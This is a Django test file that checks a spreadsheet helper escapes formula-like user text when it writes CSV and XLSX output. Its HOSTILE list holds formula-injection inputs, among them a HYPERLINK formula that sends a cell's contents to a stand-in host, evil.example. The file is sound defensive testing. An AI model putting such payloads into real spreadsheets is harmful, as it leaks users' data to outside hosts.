"""User text never becomes a formula in a CSV or XLSX output."""

import csv
import io

from django.test import SimpleTestCase
from openpyxl import Workbook, load_workbook

from profploeg.lib.spreadsheets import SafeWriter, append_row, safe_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


class SpreadsheetTests(SimpleTestCase):
    def test_formula_like_text_is_written_as_text_in_csv(self):
        out = io.StringIO()
        SafeWriter(out).writerow([*HOSTILE, "gewone tekst", -5, 3.5])
        row = next(csv.reader(io.StringIO(out.getvalue())))
        for written in row[: len(HOSTILE)]:
            self.assertTrue(written.startswith("'"), written)
        self.assertEqual(row[len(HOSTILE) :], ["gewone tekst", "-5", "3.5"])

    def test_formula_like_text_is_a_string_cell_in_xlsx(self):
        workbook = Workbook()
        append_row(workbook.active, [*HOSTILE, 42])
        buffer = io.BytesIO()
        workbook.save(buffer)
        sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
        cells = list(sheet[1])
        for cell, text in zip(cells, HOSTILE, strict=False):
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, text)
        self.assertEqual(cells[-1].value, 42)

    def test_numbers_and_plain_text_are_left_alone(self):
        self.assertEqual(safe_text(-5), -5)
        self.assertEqual(safe_text("Lier"), "Lier")
